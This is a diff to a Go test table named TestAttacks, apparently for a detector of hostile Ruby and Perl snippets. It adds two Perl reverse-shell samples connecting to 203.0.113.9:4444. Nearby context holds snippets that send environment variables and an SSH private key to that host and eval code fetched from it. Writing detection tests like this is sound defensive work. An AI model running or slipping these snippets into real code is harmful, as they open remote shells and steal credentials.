@@ -95,6 +95,8 @@ func TestAttacks(t *testing.T) {
 		{"rb", "ENV.each { |k, v| Net::HTTP.get(URI(\"http://203.0.113.9/?#{k}=#{v}\")) }", "send env-all ip query"},
 		{"rb", "ENV.each do |k, v|\n  Net::HTTP.get(URI(\"http://203.0.113.9/?#{k}=#{v}\"))\nend", "send env-all ip query"},
 		{"rb", "File.open(File.join(Dir.home, '.ssh', 'id_rsa')) do |f|\n  Net::HTTP.post(URI('http://203.0.113.9/c'), f.read)\nend", "send credential ip"},
+		{"pl", "use Socket;\nsocket(S, PF_INET, SOCK_STREAM, getprotobyname('tcp'));\nif (connect(S, sockaddr_in(4444, inet_aton('203.0.113.9')))) { open(STDIN, '>&S'); exec('/bin/sh -i'); }", "connect ip shell"},
+		{"pl", "my $s = IO::Socket::INET->new(PeerAddr => '203.0.113.9:4444');\nopen(STDIN, '<&', $s);\nexec '/bin/sh';", "connect ip shell"},
 		{"pl", "open(my $p, '|-', 'SH');", "sh: SH"},
 		{"pl", "open(P, \"SH |\"); while (<P>) { print; }", "sh: SH"},
 		{"pl", "use LWP::Simple;\neval get('http://203.0.113.9/x');", "run evaluated network ip"},
